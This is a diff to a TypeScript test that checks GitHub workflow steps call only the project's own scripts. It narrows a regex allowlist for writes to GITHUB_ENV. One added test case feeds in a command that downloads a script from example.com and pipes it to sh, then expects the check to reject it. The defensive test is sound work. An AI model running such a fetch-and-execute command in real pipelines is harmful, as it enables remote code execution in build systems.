@@ -17,7 +17,8 @@ type Workflow = { on: unknown; jobs: Record<string, { steps: Step[]; "timeout-mi
 /** Commands a step may run that are not ours, and why. */
 const OUTSIDE: [RegExp, string][] = [
   [/^apt-get (update|install) /, "a fresh Debian container has no git"],
-  [/^echo "[A-Z_]+=.*" >> "\$GITHUB_ENV"$/, "passing a value to later steps"],
+  // A value for later steps: a commit's time, a file a script of ours wrote, or a name from GitHub's own variables.
+  [/^echo "[A-Z_]+=(\$\(git log -1 --format=%ct\)|\$\(cat dist\/[\w.-]+\)|[\w.\/:-]*\$\{GITHUB_[A-Z_]+(,,)?\})" >> "\$GITHUB_ENV"$/, "passing a value to later steps"],
   [/^gh release create /, "the release itself exists only on GitHub"],
 ];
 
@@ -69,5 +70,6 @@ describe("GitHub workflows call only our scripts", () => {
     expect(problemsOf("npm run no-such-script")).toEqual(["npm run no-such-script: no such script in package.json"]);
     expect(problemsOf("node_modules/.bin/bun scripts/no-such.ts")).toEqual(["scripts/no-such.ts: no such file"]);
     expect(problemsOf("npm run release")).toEqual([]);
+    expect(problemsOf('echo "X=$(curl -s https://example.com/x | sh)" >> "$GITHUB_ENV"')).toHaveLength(1);
   });
 });
